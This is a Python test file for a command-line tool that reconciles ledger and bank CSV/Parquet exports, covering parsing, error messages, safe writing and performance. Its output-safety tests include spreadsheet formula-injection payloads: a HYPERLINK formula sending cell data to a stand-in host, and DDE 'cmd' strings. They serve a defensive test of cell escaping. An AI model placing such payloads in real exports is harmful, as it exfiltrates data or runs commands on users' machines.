"""`bg-agents match` reconciles two CSV/Parquet exports without Dagster: what it reads, what it
refuses (with a message a finance user can act on, and no output file), and 100k rows a side."""

from __future__ import annotations

import json
import os
import random
import string
import subprocess
import sys
import time
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from bg_agents.cli import main
from bg_agents.defs.reconciliation.matcher import exports
from bg_agents.defs.reconciliation.matcher.exports import (
    InputError,
    parse_column_map,
    read_sides,
    write_pairs,
)
from bg_agents.defs.reconciliation.matcher.rules import Side
from bg_agents.defs.reconciliation.matcher.types import Pair
from bg_agents_tests.reconciliation.match_cli import read_pairs, run, write

LEFT = (
    "id,date,amount,name,currency\n"
    "INV-1,2026-03-02,1250.00,Hetzner Online GmbH,EUR\n"
    "INV-2,2026-03-03,-42.50,Blue Bottle Coffee,EUR\n"
    "INV-3,2026-03-05,980.00,Acme Corp,EUR\n"
)
RIGHT = (
    "id,date,amount,name,currency\n"
    "TX-1,2026-03-03,-1250.00,HETZNER ONLINE,EUR\n"
    "TX-2,2026-03-03,42.50,SQ *BLUE BOTTLE,EUR\n"
    "TX-3,2026-02-01,17.00,Unrelated Shop,EUR\n"
)


def refuse(
    capsys: pytest.CaptureFixture[str],
    folder: Path,
    left: str | bytes,
    *extra: str,
    right: str | bytes = RIGHT,
    left_name: str = "left.csv",
    out_name: str = "pairs.csv",
) -> str:
    """Run the CLI on a bad input: exit code 2, the message on stderr, no output file at all."""
    left_path = write(folder, left_name, left)
    right_path = write(folder, "right.csv", right)
    before = set(folder.iterdir())
    code, stdout, stderr = run(
        capsys, "--left", left_path, "--right", right_path, "--out", folder / out_name, *extra
    )
    assert code == 2, stdout + stderr
    assert stderr.startswith("bg-agents: error: ")
    assert stdout == ""
    assert set(folder.iterdir()) == before  # no output, no leftover temporary file
    return stderr


# --- column maps (the syntax and its errors: bg_agents_tests/lib/test_tabular.py) ---------------


def test_column_map_errors_are_input_errors_naming_the_fields() -> None:
    with pytest.raises(InputError, match="unknown field 'payee'.*id, date, amount, name"):
        parse_column_map("id=unique_id,payee=memo")
    assert parse_column_map("NAME=payee+memo,base_amount=Amount (EUR)").columns == {
        "name": "payee+memo",
        "base_amount": "Amount (EUR)",
    }


# --- reading -------------------------------------------------------------------------------------


def test_european_csv_with_semicolons_and_a_bom(tmp_path: Path) -> None:
    text = (
        "Buchungs-Nr;Buchungstag;Betrag;Empfänger;Verwendungszweck;Währung\n"
        "B-1;02.03.2026;-1.234,56;Müller GmbH;Rechnung 4711;EUR\n"
        'B-2;31.03.2026;12,5;;"Kaffee; Kuchen";eur\n'
        "\n"
    )
    path = write(tmp_path, "bank.csv", b"\xef\xbb\xbf" + text.encode())
    column_map = parse_column_map(
        "id=Buchungs-Nr,date=Buchungstag,amount=Betrag,name=Empfänger+Verwendungszweck,"
        "currency=Währung"
    )
    first, second = read_sides(path, column_map, default_currency=None)
    assert first == Side(
        id="B-1",
        date=date(2026, 3, 2),
        amount=Decimal("-1234.56"),
        currency="EUR",
        name="Müller GmbH",
        aliases=("Rechnung 4711",),
    )
    assert (second.amount, second.date, second.currency) == (
        Decimal("12.5"),
        date(2026, 3, 31),
        "EUR",
    )
    assert (second.name, second.aliases) == ("Kaffee; Kuchen", ())


def test_columns_named_like_the_fields_need_no_map_and_tabs_work(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "ledger.csv",
        "ID\tDate\tAmount\tName\tReference\tBase Amount\tDate Until\n"
        "1\t03/01/2026\t10.00\tAcme\tINV-9\t11.00\t03/31/2026\n"
        "2\t03/15/2026\t20.00\tBeta\t\t\t\n",
    )
    first, second = read_sides(path, None, default_currency="usd")
    assert (first.date, first.date_until, first.reference, first.base_amount) == (
        date(2026, 3, 1),
        date(2026, 3, 31),
        "INV-9",
        Decimal("11.00"),
    )
    assert (second.reference, second.base_amount, second.date_until, second.currency) == (
        None,
        None,
        None,
        "USD",
    )


def test_name_from_several_columns_takes_the_first_that_is_filled(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "bank.csv",
        "tx,day,value,payee,memo,counterparty\n"
        "a,2026-01-02,5,,CARD 1234 AMZN,Amazon EU\n"
        "b,2026-01-02,6,Stripe,Stripe,\n"
        "c,2026-01-02,7,,,\n",
    )
    sides = read_sides(
        path,
        parse_column_map("id=tx,date=day,amount=value,name=payee+memo+counterparty"),
        default_currency="EUR",
    )
    assert [(s.name, s.aliases) for s in sides] == [
        ("CARD 1234 AMZN", ("Amazon EU",)),
        ("Stripe", ()),
        ("", ()),
    ]


def test_parquet_with_typed_columns_reads_exactly(tmp_path: Path) -> None:
    path = tmp_path / "ledger.parquet"
    table = pa.table(
        {
            "unique_id": pa.array(["A", "B", "C"]),
            "transaction_date": pa.array(
                [date(2026, 1, 2), date(2026, 1, 3), date(2026, 1, 4)], pa.date32()
            ),
            "amount": pa.array(
                [Decimal("10.10"), Decimal("-0.30"), Decimal("1234567.89")], pa.decimal128(18, 2)
            ),
            "fx": pa.array([0.1, None, 2.5], pa.float64()),
            "memo": pa.array(["x", None, "z"]),
            "ccy": pa.array(["EUR", "USD", "EUR"]),
        }
    )
    pq.write_table(table, path)
    sides = read_sides(
        path,
        parse_column_map(
            "id=unique_id,date=transaction_date,amount=amount,name=memo,currency=ccy,base_amount=fx"
        ),
        default_currency=None,
    )
    assert [(s.id, s.date, s.amount, s.base_amount, s.name, s.currency) for s in sides] == [
        ("A", date(2026, 1, 2), Decimal("10.10"), Decimal("0.1"), "x", "EUR"),
        ("B", date(2026, 1, 3), Decimal("-0.30"), None, "", "USD"),
        ("C", date(2026, 1, 4), Decimal("1234567.89"), Decimal("2.5"), "z", "EUR"),
    ]


def test_write_pairs_never_leaves_a_half_written_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "pairs.csv"
    out.write_text("the previous run\n")
    pairs = [Pair("L", "R", 0.91, "auto", "amount", "same amount")]

    def broken(path: Path, records: object) -> None:
        path.write_text("half")
        raise OSError("disk full")

    monkeypatch.setattr(exports, "_write_csv", broken)
    with pytest.raises(OSError, match="disk full"):
        write_pairs(out, pairs)
    assert out.read_text() == "the previous run\n"
    assert [p.name for p in tmp_path.iterdir()] == ["pairs.csv"]
    with pytest.raises(InputError, match="the output must end in"):
        write_pairs(tmp_path / "pairs.xlsx", pairs)


# --- the command ---------------------------------------------------------------------------------


def test_match_writes_pairs_with_explanations_and_prints_a_summary(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    left, right = write(tmp_path, "left.csv", LEFT), write(tmp_path, "right.csv", RIGHT)
    out = tmp_path / "pairs.csv"
    code, stdout, stderr = run(capsys, "--left", left, "--right", right, "--out", out)
    assert code == 0, stderr
    pairs = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert list(pairs.columns[:8]) == list(exports.PAIR_COLUMNS)
    assert {"left_date", "left_amount", "left_name", "right_date", "right_amount"} <= set(
        pairs.columns
    )
    linked = pairs[pairs.decision == "auto"]
    assert set(zip(linked.left_id, linked.right_id, strict=True)) == {
        ("INV-1", "TX-1"),
        ("INV-2", "TX-2"),
    }
    assert all(linked.explanation.str.len() > 0)
    assert linked.set_index("left_id").loc["INV-1", "right_amount"] == "-1250.00"
    assert "auto" in stdout and str(out) in stdout and "unmatched" in stdout
    assert "3 rows" in stdout

    code, stdout, _ = run(
        capsys, "--left", left, "--right", right, "--out", tmp_path / "p.parquet", "--json"
    )
    assert code == 0
    summary = json.loads(stdout)
    assert summary["left_rows"] == 3 and summary["right_rows"] == 3
    assert summary["auto"] == 2 and summary["left_unmatched"] + summary["auto"] <= 3
    assert summary["out"].endswith("p.parquet")
    # The default is learned, but three rows are too few to learn from: the seed's rules decide.
    assert summary["profile"] == "seed"
    assert summary["note"] == (
        "the learned profile needs 100 rows a side to learn from; these files have 3"
    )
    written = pq.read_table(tmp_path / "p.parquet")
    assert written.schema.field("left_amount").type == pa.decimal128(38, 2)
    assert written.schema.field("score").type == pa.float64()
    assert sorted(written.column("decision").to_pylist()).count("auto") == 2


def test_match_needs_no_configuration_and_skips_its_import(tmp_path: Path) -> None:
    """Two files in, one out: a broken setting of the agents does not stop ``match``, and the
    settings module (pydantic, 0.2 s of start-up) is never imported. Other commands still check."""
    left, right = write(tmp_path, "left.csv", LEFT), write(tmp_path, "right.csv", RIGHT)
    code = (
        "import sys\n"
        "from bg_agents.cli import main\n"
        f"rc = main(['match', '--left', {str(left)!r}, '--right', {str(right)!r}, "
        f"'--out', {str(tmp_path / 'pairs.csv')!r}])\n"
        "print(rc, 'bg_agents.lib.settings' in sys.modules)\n"
    )
    env = {**os.environ, "BG_AGENTS_NOW": "not an instant"}
    done = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True)
    assert done.stdout.split()[-2:] == ["0", "False"], done.stderr
    assert (tmp_path / "pairs.csv").exists()
    teams = "import sys\nfrom bg_agents.cli import main\nsys.exit(main(['teams']))"
    other = subprocess.run([sys.executable, "-c", teams], env=env, capture_output=True, text=True)
    assert other.returncode == 2 and "BG_AGENTS_NOW" in other.stderr


def test_ctrl_c_is_one_line_exit_130_and_writes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from bg_agents.defs.reconciliation.matcher import file_match

    def interrupted(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(file_match, "match", interrupted)  # Ctrl-C while matching
    left, right = write(tmp_path, "left.csv", LEFT), write(tmp_path, "right.csv", RIGHT)
    code, stdout, stderr = run(capsys, "--left", left, "--right", right, "--out",
                               tmp_path / "pairs.csv")  # fmt: skip
    assert (code, stdout, stderr) == (130, "", "bg-agents: interrupted\n")
    assert sorted(f.name for f in tmp_path.iterdir()) == ["left.csv", "right.csv"]


def test_tolerances_and_profiles_change_what_is_linked(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    left = write(tmp_path, "left.csv", LEFT)
    right = write(tmp_path, "right.csv", RIGHT.replace("-1250.00", "-1253.00"))  # 0.24 % off
    out = tmp_path / "pairs.csv"

    def auto(*extra: str) -> int:
        code, stdout, stderr = run(
            capsys, "--left", left, "--right", right, "--out", out, "--json", *extra
        )
        assert code == 0, stderr
        return json.loads(stdout)["auto"]

    assert auto() == 2  # the seed's 0.5 %
    assert auto("--profile", "strict") == 1  # to the cent
    assert auto("--amount-tolerance", "0.1%") == 1
    assert auto("--profile", "strict", "--amount-tolerance", "0.5", "--date-window-days", "5") == 2


def test_missing_column_names_it_and_lists_the_files_columns(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    stderr = refuse(
        capsys, tmp_path, "id,date,value,name\nA,2026-01-01,1.00,x\n", "--currency", "EUR"
    )
    assert "left.csv: no column for amount" in stderr
    assert '"id", "date", "value", "name"' in stderr and "amount=<column>" in stderr

    stderr = refuse(capsys, tmp_path, LEFT, "--left-map", "id=invoice_no")
    assert '"invoice_no" (for id)' in stderr and "no such column" in stderr


def test_bad_amount_names_the_spreadsheet_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    stderr = refuse(capsys, tmp_path, LEFT.replace("-42.50", "42.5O"))
    assert "left.csv: 1 of 3 rows cannot be read" in stderr
    assert "line 3: bad amount '42.5O'" in stderr


def test_two_processes_write_the_same_pairs_and_the_same_errors(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """--processes 2 (the right file read in a forked child, names normalized on two cores)
    writes byte for byte what one process writes, and a bad file is refused with the same
    words, the left file's problems first."""
    from bg_agents.defs.reconciliation.matcher import file_match
    from bg_agents.lib import forked

    if not forked.can_fork():
        pytest.skip("fork is used on Linux only")
    monkeypatch.setattr(file_match, "FORK_BYTES", 0)  # these files are small: fork anyway
    monkeypatch.setattr(forked, "MIN_ITEMS", 2)
    fallbacks = forked.fallbacks
    rows = [
        f"INV-{k},2026-03-{1 + k % 28:02d},{100 + k}.00,Customer {k} GmbH,EUR" for k in range(300)
    ]
    bank = [f"TX-{k},2026-03-{1 + k % 28:02d},{100 + k}.00,TRF CUSTOMER {k} RE INV-{k},EUR"
            for k in range(0, 300, 2)]  # fmt: skip
    header = "id,date,amount,name,currency\n"
    left = write(tmp_path, "left.csv", header + "\n".join(rows) + "\n")
    right = write(tmp_path, "right.csv", header + "\n".join(bank) + "\n")
    written = {}
    for n in ("1", "2"):
        out = tmp_path / f"pairs{n}.csv"
        code, _, stderr = run(capsys, "--left", left, "--right", right, "--out", out,
                              "--processes", n)  # fmt: skip
        assert code == 0, stderr
        written[n] = out.read_bytes()
    assert written["1"] == written["2"] and written["1"].count(b",TX-") >= 100
    assert not [f for f in tmp_path.iterdir() if f.name.startswith(".")]  # no part left behind
    assert forked.fallbacks == fallbacks  # every child delivered its share
    bad_right = write(tmp_path, "bad.csv", header + "TX-1,2026-03-02,12.O0,Shop,EUR\n")
    bad_left = write(tmp_path, "badleft.csv", header + "INV-1,2026-02-30,10.00,Shop,EUR\n")
    for files, expected in (((left, bad_right), "bad.csv: 1 of 1 rows"),
                            ((bad_left, bad_right), "badleft.csv: 1 of 1 rows")):  # fmt: skip
        errors = []
        for n in ("1", "2"):
            code, _, stderr = run(capsys, "--left", files[0], "--right", files[1], "--out",
                                  tmp_path / "x.csv", "--processes", n)  # fmt: skip
            assert code == 2
            errors.append(stderr)
        assert errors[0] == errors[1] and expected in errors[0]
    assert not (tmp_path / "x.csv").exists()


def test_bad_date_names_the_line_and_the_expected_format(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    stderr = refuse(capsys, tmp_path, LEFT.replace("2026-03-05", "2026-02-30"))
    assert "line 4: bad date '2026-02-30' (expected a date such as 2026-03-31)" in stderr

    stderr = refuse(
        capsys, tmp_path, LEFT.replace("2026-03-02", "03/02/2026").replace("2026-03-0", "04/0")
    )
    assert "could be day/month or month/day" in stderr and "YYYY-MM-DD" in stderr
    assert 'left.csv: the dates in column "date" (such as "03/02/2026")' in stderr
    assert """'{"date_format": "%d/%m/%Y"}', or "%m/%d/%Y")""" in stderr


def test_many_bad_rows_show_ten_and_the_total(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = "".join(f"R{i},2026-01-01,{'n/a' if i % 2 else '1.00'},x,EUR\n" for i in range(50))
    stderr = refuse(capsys, tmp_path, "id,date,amount,name,currency\n" + rows)
    assert "25 of 50 rows cannot be read (the first 10)" in stderr
    assert "line 3: bad amount 'n/a'" in stderr and "line 21:" in stderr
    assert "line 23:" not in stderr


def test_duplicate_and_empty_ids_are_listed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    stderr = refuse(capsys, tmp_path, LEFT.replace("INV-3", "INV-1"))
    assert "1 id(s) appear more than once" in stderr and '"INV-1" (line 2, line 4)' in stderr
    stderr = refuse(capsys, tmp_path, LEFT.replace("INV-2", ""))
    assert "line 3: empty id" in stderr


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "left.csv: the file is empty"),
        (b"\n\n", "left.csv: the file is empty"),
        (b"id,date,amount,name,currency\n", "has column headers"),
        (b"id,date,amount,name,currency\n,,,,\n", "but no rows"),
        (b"PK\x03\x04rest-of-a-zip", "Excel workbook"),
        (
            b"id,date,amount,name,currency\nA,2026-01-01,1,000.00,x,EUR\n",
            "line 2 has 6 cells but the header has 5",
        ),
    ],
)
def test_empty_and_broken_files_are_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], content: bytes, message: str
) -> None:
    assert message in refuse(capsys, tmp_path, content)


def test_broken_parquet_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    stderr = refuse(capsys, tmp_path, b"not parquet at all", left_name="left.parquet")
    assert "left.parquet: not a readable Parquet file" in stderr


def test_no_currency_column_asks_for_one(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    no_currency = "id,date,amount,name\nA,2026-01-01,1.00,x\n"
    stderr = refuse(capsys, tmp_path, no_currency)
    assert "no currency column" in stderr and "--currency EUR" in stderr
    assert "unknown currency 'EURO'" in refuse(capsys, tmp_path, no_currency, "--currency", "EURO")
    stderr = refuse(capsys, tmp_path, LEFT.replace("Acme Corp,EUR", "Acme Corp,XXY"))
    assert "line 4: unknown currency 'XXY'" in stderr


@pytest.mark.parametrize(
    ("extra", "out_name", "message"),
    [
        ((), "pairs.xlsx", "pairs.xlsx: cannot write .xlsx; the output must end in"),
        ((), "left.csv", "the output would overwrite an input file"),
        (("--profile", "loose"), "pairs.csv", "unknown matching profile 'loose'"),
        (("--left-map", "id:unique_id"), "pairs.csv", "bad column map entry 'id:unique_id'"),
        (("--right-map", "iban=x"), "pairs.csv", "unknown field 'iban'"),
        (("--amount-tolerance", "half"), "pairs.csv", "--amount-tolerance must be a number"),
        (("--amount-tolerance=-1%",), "pairs.csv", "--amount-tolerance must be a number"),
        (("--amount-abs", "1,5"), "pairs.csv", "--amount-abs must be a number"),
        (("--amount-abs", "1e400"), "pairs.csv", "--amount-abs must be a number from 0 to"),
        (("--amount-abs", "1000000001"), "pairs.csv", "--amount-abs must be a number from 0 to"),
        (("--date-window-days", "-2"), "pairs.csv", "--date-window-days must be from 0 to 3660"),
        (("--date-window-days", "99999"), "pairs.csv", "--date-window-days must be from 0 to"),
    ],
)
def test_bad_options_are_refused_before_reading(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    extra: tuple[str, ...],
    out_name: str,
    message: str,
) -> None:
    def no_reading(*args: object, **kwargs: object) -> None:
        raise AssertionError("read a file before checking the options")

    monkeypatch.setattr(exports, "read_sides", no_reading)
    assert message in refuse(capsys, tmp_path, LEFT, *extra, out_name=out_name)


def test_missing_input_and_unsupported_input_suffix(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    right = write(tmp_path, "right.csv", RIGHT)
    code, _, stderr = run(
        capsys, "--left", tmp_path / "nope.csv", "--right", right, "--out", tmp_path / "o.csv"
    )
    assert code == 2 and "nope.csv: no such file" in stderr
    assert "cannot read .xlsx" in refuse(capsys, tmp_path, LEFT, left_name="left.xlsx")
    assert not (tmp_path / "o.csv").exists()


# --- 100k rows a side ----------------------------------------------------------------------------


def test_hundred_thousand_rows_a_side(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A ledger (ISO dates, decimal point) against a German bank export (";", BOM, DD.MM.YYYY,
    decimal comma, outflows negative): 90 % of the rows have an exact counterpart, the rest have
    none within any window. Every exact pair must be linked, and nothing else.

    Amounts are spread log-uniformly (10 to 1,000,000, as invoices are) over eight years; the
    default (learned) matcher takes about 15 s here.
    """
    n, exact, span = 100_000, 90_000, 3_000
    rng = random.Random(11)
    words = [
        "".join(rng.choices(string.ascii_lowercase, k=rng.randint(5, 9))) for _ in range(30_000)
    ]
    draws = (int(10 ** rng.uniform(3, 8)) for _ in range(3 * n))
    cents = list(dict.fromkeys(draws))[: 2 * n]  # distinct amounts, in random order
    assert len(cents) == 2 * n
    start = date(2018, 1, 1)
    left_rows, right_rows = [], []
    for i in range(n):
        first, second = rng.sample(words, 2)
        name = f"{first.title()} {second.title()}"
        day = start + timedelta(days=i % span)
        left_rows.append(
            (f"L{i}", day.isoformat(), f"{cents[i] // 100}.{cents[i] % 100:02d}", name)
        )
        if i < exact:
            amount, booked, label = cents[i], day, name.upper()
        else:  # noise: no counterpart on the left, a year after any left date
            amount, booked, label = (
                cents[n + i],
                start + timedelta(days=span + 365 + i % 300),
                " ".join(rng.sample(words, 2)),
            )
        whole = f"{amount // 100:,}".replace(",", ".")
        right_rows.append(
            (f"R{i}", booked.strftime("%d.%m.%Y"), f"-{whole},{amount % 100:02d}", label)
        )
    left = tmp_path / "ledger.csv"
    right = tmp_path / "bank.csv"
    pd.DataFrame(left_rows, columns=["unique_id", "transaction_date", "amount", "memo"]).to_csv(
        left, index=False
    )
    pd.DataFrame(right_rows, columns=["Referenz", "Buchungstag", "Betrag", "Empfänger"]).to_csv(
        right, index=False, sep=";", encoding="utf-8-sig"
    )
    out = tmp_path / "pairs.csv"

    started = time.monotonic()
    code = main(
        [
            "match",
            "--left", str(left),
            "--right", str(right),
            "--out", str(out),
            "--left-map", "id=unique_id,date=transaction_date,amount=amount,name=memo",
            "--right-map", "id=Referenz,date=Buchungstag,amount=Betrag,name=Empfänger",
            "--currency", "EUR",
        ]
    )  # fmt: skip
    took = time.monotonic() - started
    captured = capsys.readouterr()
    assert code == 0, captured.err

    pairs = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    linked = pairs[pairs.decision == "auto"]
    assert len(linked) == exact
    assert set(zip(linked.left_id, linked.right_id, strict=True)) == {
        (f"L{i}", f"R{i}") for i in range(exact)
    }
    assert not set(pairs.right_id) & {f"R{i}" for i in range(exact, n)}
    assert f"{n:>10,} rows" in captured.out and f"{exact:>10,} pairs linked" in captured.out
    assert "reading ledger.csv" in captured.err  # progress for large inputs
    print(f"\n100k x 100k: {took:.1f} s; stderr:\n{captured.err}\nstdout:\n{captured.out}")


def test_same_sign_keeps_refunds_away_from_purchases(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    left = write(tmp_path, "left.csv", "id,date,amount,name\nR-1,2026-03-03,-42.50,Blue Bottle\n")
    right = write(
        tmp_path,
        "right.csv",
        "id,date,amount,name\nREFUND,2026-03-03,42.50,BLUE BOTTLE\n"
        "BUY,2026-03-05,-42.50,BLUE BOTTLE\n",
    )

    def linked(*extra: str) -> set[tuple[str, str]]:
        out = tmp_path / "pairs.csv"
        code, _, stderr = run(capsys, "--left", left, "--right", right, "--out", out,
                              "--currency", "EUR", *extra)  # fmt: skip
        assert code == 0, stderr
        pairs = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
        auto = pairs[pairs.decision == "auto"]
        return set(zip(auto.left_id, auto.right_id, strict=True))

    assert linked() != {("R-1", "BUY")}  # by size, the same-day refund looks better
    assert linked("--same-sign") == {("R-1", "BUY")}


# --- output a spreadsheet opens safely -----------------------------------------------------------

HOSTILE_LEFT = (
    "id,date,amount,name\n"
    '"=HYPERLINK(""http://x.example/?d=""&A1,""open"")",2026-03-02,100.00,Hetzner Online\n'
    "-7,2026-03-03,-42.50,=cmd|' /C calc'!A0\n"
    "@SUM(1+1)*cmd|' /C calc'!A0,2026-03-05,980.00,+Acme Corp\n"
)
HOSTILE_RIGHT = (
    "id,date,amount,name\n"
    "-99,2026-03-02,100.00,Hetzner Online\n"
    "+TX-2,2026-03-03,-42.50,=cmd|' /C calc'!A0\n"
    "-2+3,2026-03-05,980.00,-Acme Corp\n"
)


def test_formula_cells_are_written_as_text_and_negative_numbers_stay_numbers(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Ids and names from an export reach a spreadsheet: none may run as a formula there."""
    left = write(tmp_path, "left.csv", HOSTILE_LEFT)
    right = write(tmp_path, "right.csv", HOSTILE_RIGHT)
    out = tmp_path / "pairs.csv"
    code, _, stderr = run(capsys, "--left", left, "--right", right, "--out", out,
                          "--currency", "EUR")  # fmt: skip
    assert code == 0, stderr
    rows = read_pairs(out)
    assert len(rows) == 3, rows
    cells = [value for row in rows for value in row.values()]
    runnable = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(c)]
    assert runnable == []
    pairs = {(r["left_id"], r["right_id"]) for r in rows}
    assert pairs == {
        ('\'=HYPERLINK("http://x.example/?d="&A1,"open")', "-99"),
        ("-7", "'+TX-2"),
        ("'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"),
    }
    names = {r["left_name"] for r in rows} | {r["right_name"] for r in rows}
    assert "'=cmd|' /C calc'!A0" in names and "'-Acme Corp" in names
    # The money columns are still numbers a spreadsheet can sum.
    read = pd.read_csv(out, encoding="utf-8-sig")
    assert read["left_amount"].dtype.kind == "f" and read["left_amount"].min() == -42.5
    assert read["left_id"].astype(str).tolist().count("-7") == 1


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("@A1", "'@A1"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-", "'-"),
        ("-12.50", "-12.50"),
        ("-3", "-3"),
        ("Acme = best", "Acme = best"),
        ("", ""),
    ],
)
def test_spreadsheet_safe_quotes_only_cells_that_would_run(cell: str, written: str) -> None:
    assert exports.spreadsheet_safe(cell) == written


def test_an_output_folder_that_cannot_be_written_is_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """/proc exists but takes no files: the file system's refusal is the user's to fix."""
    left, right = write(tmp_path, "left.csv", LEFT), write(tmp_path, "right.csv", RIGHT)
    code, stdout, stderr = run(
        capsys, "--left", left, "--right", right, "--out", "/proc/bg_agents_pairs.csv"
    )
    assert code == 2 and stdout == ""
    assert stderr.startswith("bg-agents: error: /proc/") and len(stderr.splitlines()) == 1


VOCABULARY = [
    "alpha",
    "bravo",
    "charlie",
    "delta",
    "echo",
    "foxtrot",
    "golf",
    "hotel",
    "india",
    "juliet",
    "kilo",
    "lima",
]


def transfers(folder: Path) -> tuple[Path, Path, set[tuple[str, str]]]:
    """SIMULATED: 150 transfers, the receiving bank 1-3 days later and a fee of up to 2 %."""
    rng = random.Random(5)
    left_rows, right_rows = ["id,date,amount,name"], ["id,date,amount,name"]
    for k in range(150):
        day = date(2026, 3, 2) + timedelta(days=rng.randrange(60))
        amount = Decimal(rng.randrange(2_000, 200_000)) / 100
        fee = (amount * Decimal(rng.choice((0, 0, 0.01, 0.02)))).quantize(Decimal("0.01"))
        # Long texts of equally common words and several numbers: what a row compares is cut
        # to its rarest words and identifiers, and ties among them must break the same way.
        words = " ".join(rng.sample(VOCABULARY, 9))
        numbers = " ".join(str(rng.randrange(10**5, 10**6)) for _ in range(5))
        name = f"Payee {k:03d} {words} {numbers}"
        later = day + timedelta(days=rng.randrange(1, 4))
        left_rows.append(f"L{k},{day},{amount},{name}")
        right_rows.append(f"R{(k * 37) % 150},{later},{amount - fee},{name.upper()}")
    left = write(folder, "left.csv", "\n".join(left_rows) + "\n")
    right = write(folder, "right.csv", "\n".join(right_rows) + "\n")
    return left, right, {(f"L{k}", f"R{(k * 37) % 150}") for k in range(150)}


def test_by_default_a_file_large_enough_is_matched_by_learned_evidence(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    left, right, truth = transfers(tmp_path)
    out = tmp_path / "pairs.csv"
    code, stdout, stderr = run(
        capsys, "--left", left, "--right", right, "--out", out, "--currency", "EUR", "--json"
    )
    assert code == 0, stderr
    summary = json.loads(stdout)
    assert summary["profile"] == "learned"
    pairs = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    auto = pairs[pairs.decision == "auto"]
    linked = set(zip(auto.left_id, auto.right_id, strict=True))
    assert len(linked) >= 120 and linked <= truth
    assert all(pairs.explanation.str.startswith("match probability"))
